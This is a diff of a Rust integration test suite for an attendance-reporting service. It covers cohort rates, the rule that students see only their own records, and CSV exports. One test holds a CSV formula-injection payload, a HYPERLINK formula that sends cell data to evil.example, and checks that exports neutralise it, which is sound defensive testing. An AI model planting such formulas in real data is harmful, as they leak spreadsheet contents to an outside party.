@@ -2,8 +2,15 @@
 //! sessions held, late counted apart, those under the threshold highlighted; students see
 //! their own record and no one else's; every report comes as CSV, quoted properly.
 
+use hub_model::attendance::{
+    CohortIdRequest, CohortReportRequest, CsvFile, CsvReport, EnrollmentRequest, Mark, MarkAttendanceRequest,
+};
+use hub_model::cms::IdRequest;
+use hub_model::ops;
+use hub_model::profiles::ProfileBasics;
+use hub_model::programs::EnrollmentStatus;
+use hub_model::{ErrorKind, NoRequest};
 use hub_tests::{user_id, Caller};
-use serde_json::json;
 use sqlx::PgPool;
 
 async fn running(pool: &PgPool) -> i64 {
@@ -26,13 +33,11 @@ async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: P
     hub_core::demo::seed(&pool).await.unwrap();
     let cohort = running(&pool).await;
     let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
-    let report = lina
-        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.9 }))
-        .await
-        .unwrap();
+    let report = CohortReportRequest { cohort_id: cohort, threshold: Some(0.9) };
+    let report = lina.call::<ops::ReportCohort>(&report).await.unwrap();
     let held = held(&pool, cohort).await;
-    assert_eq!(report["sessions_held"], held);
-    let students = report["students"].as_array().unwrap();
+    assert_eq!(report.sessions_held, held);
+    let students = &report.students;
     let dropped: i64 = sqlx::query_scalar!(
         r#"select count(*) as "n!" from enrollments where cohort_id = $1 and status <> 'dropped'"#,
         cohort
@@ -47,59 +52,46 @@ async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: P
                       count(*) filter (where r.status = 'late') as "late!"
                  from attendance_records r join sessions s on s.id = r.session_id
                 where r.enrollment_id = $1 and s.date <= current_date"#,
-            student["enrollment_id"].as_i64().unwrap()
+            student.enrollment_id
         )
         .fetch_one(&pool)
         .await
         .unwrap();
-        let rate = student["rate"].as_f64().unwrap();
-        assert!((rate - counted.attended as f64 / held as f64).abs() < 1e-9, "{student}");
-        assert_eq!(student["late"], counted.late, "late counted apart");
-        let status: String = sqlx::query_scalar!(
-            "select status from enrollments where id = $1",
-            student["enrollment_id"].as_i64().unwrap()
-        )
-        .fetch_one(&pool)
-        .await
-        .unwrap();
-        assert_eq!(student["enrollment_status"], status.as_str());
+        let rate = student.rate.unwrap();
+        assert!((rate - counted.attended as f64 / held as f64).abs() < 1e-9, "{student:?}");
+        assert_eq!(student.late, counted.late, "late counted apart");
+        let status: String =
+            sqlx::query_scalar!("select status from enrollments where id = $1", student.enrollment_id)
+                .fetch_one(&pool)
+                .await
+                .unwrap();
+        let status: EnrollmentStatus = status.parse().unwrap();
+        assert_eq!(student.enrollment_status, status);
         // A paused student is not on the roster to be marked: never flagged for it.
-        assert_eq!(student["below"], status != "paused" && rate < 0.9, "{student}");
+        assert_eq!(student.below, status != EnrollmentStatus::Paused && rate < 0.9, "{student:?}");
     }
-    assert!(students.iter().any(|student| student["below"] == true), "the demo has someone under 90%");
-    let paused = students.iter().find(|student| student["enrollment_status"] == "paused");
+    assert!(students.iter().any(|student| student.below), "the demo has someone under 90%");
+    let paused = students.iter().find(|student| student.enrollment_status == EnrollmentStatus::Paused);
     let paused = paused.expect("the demo's running cohort has a paused student");
-    assert!(paused["rate"].as_f64().unwrap() < 0.9 && paused["below"] == false, "{paused}");
+    assert!(paused.rate.unwrap() < 0.9 && !paused.below, "{paused:?}");
     let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
-    let refused =
-        sara.call_json("attendance.report_cohort", json!({ "cohort_id": cohort })).await.unwrap_err();
-    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
-    lina.refused(
-        "attendance.report_cohort",
-        json!({ "cohort_id": cohort, "threshold": 1.5 }),
-        "threshold",
-        "between 0 and 1",
-    )
-    .await;
+    let any_threshold = CohortReportRequest { cohort_id: cohort, threshold: None };
+    let refused = sara.call::<ops::ReportCohort>(&any_threshold).await.unwrap_err();
+    assert_eq!(refused.kind, ErrorKind::Forbidden);
+    let too_high = CohortReportRequest { cohort_id: cohort, threshold: Some(1.5) };
+    lina.refuses::<ops::ReportCohort>(&too_high, "threshold", "between 0 and 1").await;
 }
 
 #[sqlx::test(migrator = "hub_core::MIGRATOR")]
 async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
     hub_core::demo::seed(&pool).await.unwrap();
     let nour = Caller::as_user(&pool, user_id(&pool, "student@demo.digitalhub.dev").await);
-    let mine = nour.call_json("attendance.mine", json!({})).await.unwrap();
+    let mine = nour.call::<ops::MyAttendance>(&NoRequest {}).await.unwrap();
     let record = &mine[0];
-    let sessions = record["sessions"].as_array().unwrap();
-    assert!(!sessions.is_empty());
-    let marked = sessions.iter().filter(|session| !session["status"].is_null()).count() as i64;
-    let rate = &record["rate"];
-    assert_eq!(
-        rate["present"].as_i64().unwrap()
-            + rate["late"].as_i64().unwrap()
-            + rate["absent"].as_i64().unwrap()
-            + rate["excused"].as_i64().unwrap(),
-        marked
-    );
+    assert!(!record.sessions.is_empty());
+    let marked = record.sessions.iter().filter(|session| session.status.is_some()).count() as i64;
+    let rate = &record.rate;
+    assert_eq!(rate.present + rate.late + rate.absent + rate.excused, marked);
     let someone_else: i64 = sqlx::query_scalar!(
         "select e.id from enrollments e join users u on u.id = e.student_user_id
           where u.email <> 'student@demo.digitalhub.dev' and e.status = 'active' limit 1"
@@ -107,13 +99,11 @@ async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
     .fetch_one(&pool)
     .await
     .unwrap();
-    let refused = nour
-        .call_json("attendance.report_student", json!({ "enrollment_id": someone_else }))
-        .await
-        .unwrap_err();
-    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
-    let own = rate["enrollment_id"].clone();
-    nour.call_json("attendance.report_student", json!({ "enrollment_id": own })).await.unwrap();
+    let theirs = EnrollmentRequest { enrollment_id: someone_else };
+    let refused = nour.call::<ops::ReportStudent>(&theirs).await.unwrap_err();
+    assert_eq!(refused.kind, ErrorKind::Forbidden);
+    let own = EnrollmentRequest { enrollment_id: rate.enrollment_id };
+    nour.call::<ops::ReportStudent>(&own).await.unwrap();
 }
 
 #[sqlx::test(migrator = "hub_core::MIGRATOR")]
@@ -128,20 +118,17 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
     .fetch_one(&pool)
     .await
     .unwrap();
-    let roster = lina.call_json("attendance.roster", json!({ "id": session })).await.unwrap();
-    let student = roster["students"][0].clone();
-    lina.call_json(
-        "attendance.mark",
-        json!({ "session_id": session, "enrollment_id": student["enrollment_id"], "status": "late",
-                "note": "Said \"sorry\", then sat down, quietly" }),
-    )
-    .await
-    .unwrap();
-    let by_session = lina
-        .call_json("attendance.export_csv", json!({ "report": "session", "session_id": session }))
-        .await
-        .unwrap();
-    let text = by_session["content"].as_str().unwrap();
+    let roster = lina.call::<ops::AttendanceRoster>(&IdRequest { id: session }).await.unwrap();
+    let student = roster.students[0].enrollment_id;
+    let late = MarkAttendanceRequest {
+        session_id: session,
+        enrollment_id: student,
+        status: Mark::Late,
+        note: Some("Said \"sorry\", then sat down, quietly".to_owned()),
+    };
+    lina.call::<ops::MarkAttendance>(&late).await.unwrap();
+    let by_session = lina.call::<ops::ExportCsv>(&CsvReport::Session { session_id: session }).await.unwrap();
+    let text = &by_session.content;
     assert!(text.starts_with("student,mark,note,marked by,marked at\n"), "{text}");
     assert!(text.contains("late,\"Said \"\"sorry\"\", then sat down, quietly\""), "{text}");
     let students: i64 = sqlx::query_scalar!(
@@ -156,50 +143,27 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
         students + 1,
         "a line per student (paused ones too), and the header"
     );
-    assert!(by_session["filename"].as_str().unwrap().ends_with(".csv"));
+    assert!(by_session.filename.ends_with(".csv"));
 
-    let by_cohort = lina
-        .call_json("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort }))
-        .await
-        .unwrap();
-    assert!(by_cohort["content"].as_str().unwrap().starts_with(
+    let cohort_csv = |threshold| CsvReport::Cohort { cohort_id: cohort, threshold };
+    let by_cohort = lina.call::<ops::ExportCsv>(&cohort_csv(None)).await.unwrap();
+    assert!(by_cohort.content.starts_with(
         "student,enrollment,present,late,absent,excused,sessions held,rate %,below threshold\n"
     ));
-    assert_eq!(by_cohort["filename"], "attendance-autumn-2026.csv");
+    assert_eq!(by_cohort.filename, "attendance-autumn-2026.csv");
     // The threshold chosen on screen is the one the file marks by.
-    let below = |csv: &serde_json::Value| {
-        csv["content"].as_str().unwrap().lines().filter(|line| line.ends_with(",yes")).count()
-    };
-    let strict = lina
-        .call_json(
-            "attendance.export_csv",
-            json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.95 }),
-        )
-        .await
-        .unwrap();
-    let on_screen = lina
-        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.95 }))
-        .await
-        .unwrap();
-    let on_screen = on_screen["students"].as_array().unwrap().iter().filter(|s| s["below"] == true).count();
-    let nobody = lina
-        .call_json(
-            "attendance.export_csv",
-            json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.0 }),
-        )
-        .await
-        .unwrap();
+    let below = |csv: &CsvFile| csv.content.lines().filter(|line| line.ends_with(",yes")).count();
+    let strict = lina.call::<ops::ExportCsv>(&cohort_csv(Some(0.95))).await.unwrap();
+    let on_screen = CohortReportRequest { cohort_id: cohort, threshold: Some(0.95) };
+    let on_screen = lina.call::<ops::ReportCohort>(&on_screen).await.unwrap();
+    let on_screen = on_screen.students.iter().filter(|s| s.below).count();
+    let nobody = lina.call::<ops::ExportCsv>(&cohort_csv(Some(0.0))).await.unwrap();
     assert_eq!(below(&nobody), 0);
     assert_eq!(below(&strict), on_screen, "the file marks whom the screen highlights");
     assert!(below(&strict) >= below(&by_cohort) && on_screen > 0);
-    let by_student = lina
-        .call_json(
-            "attendance.export_csv",
-            json!({ "report": "student", "enrollment_id": student["enrollment_id"] }),
-        )
-        .await
-        .unwrap();
-    assert!(by_student["content"].as_str().unwrap().starts_with("date,session,mark,note\n"));
+    let by_student =
+        lina.call::<ops::ExportCsv>(&CsvReport::Student { enrollment_id: student }).await.unwrap();
+    assert!(by_student.content.starts_with("date,session,mark,note\n"));
 }
 
 #[sqlx::test(migrator = "hub_core::MIGRATOR")]
@@ -207,32 +171,26 @@ async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
     hub_core::demo::seed(&pool).await.unwrap();
     let cohort = running(&pool).await;
     let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
-    let sessions =
-        lina.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap();
-    let sessions = sessions.as_array().unwrap();
+    let sessions = lina.call::<ops::ReportSessions>(&CohortIdRequest { cohort_id: cohort }).await.unwrap();
     let held = held(&pool, cohort).await;
     assert_eq!(sessions.len() as i64, held, "every session held, none to come");
     let latest = &sessions[0];
     let counted = sqlx::query!(
         r#"select count(*) filter (where status = 'present') as "present!", count(*) filter (where status = 'absent') as "absent!"
              from attendance_records where session_id = $1"#,
-        latest["session_id"].as_i64().unwrap()
+        latest.session_id
     )
     .fetch_one(&pool)
     .await
     .unwrap();
-    assert_eq!(
-        (latest["present"].as_i64(), latest["absent"].as_i64()),
-        (Some(counted.present), Some(counted.absent))
-    );
-    let dates: Vec<&str> = sessions.iter().map(|session| session["date"].as_str().unwrap()).collect();
+    assert_eq!((latest.present, latest.absent), (counted.present, counted.absent));
+    let dates: Vec<_> = sessions.iter().map(|session| session.date).collect();
     let mut newest_first = dates.clone();
     newest_first.sort_unstable_by(|a, b| b.cmp(a));
     assert_eq!(dates, newest_first, "the latest first");
     let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
-    let refused =
-        sara.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap_err();
-    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
+    let refused = sara.call::<ops::ReportSessions>(&CohortIdRequest { cohort_id: cohort }).await.unwrap_err();
+    assert_eq!(refused.kind, ErrorKind::Forbidden);
 }
 
 /// A name or a note that a spreadsheet would run as a formula (a student renaming themselves
@@ -245,7 +203,8 @@ async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPo
     let nour_id = user_id(&pool, "student@demo.digitalhub.dev").await;
     let nour = Caller::as_user(&pool, nour_id);
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Nour\")";
-    nour.call_json("profiles.update_mine", json!({ "full_name": formula })).await.unwrap();
+    let renamed = ProfileBasics { full_name: formula.to_owned(), ..ProfileBasics::default() };
+    nour.call::<ops::UpdateMyProfiles>(&renamed).await.unwrap();
     let (session, enrollment) = sqlx::query!(
         "select s.id as session, e.id as enrollment from sessions s join enrollments e on e.cohort_id = s.cohort_id
           where s.cohort_id = $1 and s.date <= current_date and e.student_user_id = $2
@@ -257,28 +216,31 @@ async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPo
     .await
     .map(|row| (row.session, row.enrollment))
     .unwrap();
-    lina.call_json(
-        "attendance.mark",
-        json!({ "session_id": session, "enrollment_id": enrollment, "status": "late", "note": "@SUM(1+1)" }),
-    )
-    .await
-    .unwrap();
+    let late = MarkAttendanceRequest {
+        session_id: session,
+        enrollment_id: enrollment,
+        status: Mark::Late,
+        note: Some("@SUM(1+1)".to_owned()),
+    };
+    lina.call::<ops::MarkAttendance>(&late).await.unwrap();
 
     for report in [
-        json!({ "report": "session", "session_id": session }),
-        json!({ "report": "cohort", "cohort_id": cohort }),
-        json!({ "report": "student", "enrollment_id": enrollment }),
+        CsvReport::Session { session_id: session },
+        CsvReport::Cohort { cohort_id: cohort, threshold: None },
+        CsvReport::Student { enrollment_id: enrollment },
     ] {
-        let file = lina.call_json("attendance.export_csv", report.clone()).await.unwrap();
-        let cells: Vec<String> = csv::Reader::from_reader(file["content"].as_str().unwrap().as_bytes())
+        let file = lina.call::<ops::ExportCsv>(&report).await.unwrap();
+        let cells: Vec<String> = csv::Reader::from_reader(file.content.as_bytes())
             .records()
             .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
             .collect();
         let runnable: Vec<&String> =
             cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
-        assert_eq!(runnable, Vec::<&String>::new(), "{report}");
-        let expected =
-            if report["report"] == "student" { "'@SUM(1+1)".to_owned() } else { format!("'{formula}") };
-        assert!(cells.contains(&expected), "{report}: {cells:?}");
+        assert_eq!(runnable, Vec::<&String>::new(), "{report:?}");
+        let expected = match report {
+            CsvReport::Student { .. } => "'@SUM(1+1)".to_owned(),
+            CsvReport::Session { .. } | CsvReport::Cohort { .. } => format!("'{formula}"),
+        };
+        assert!(cells.contains(&expected), "{report:?}: {cells:?}");
     }
 }
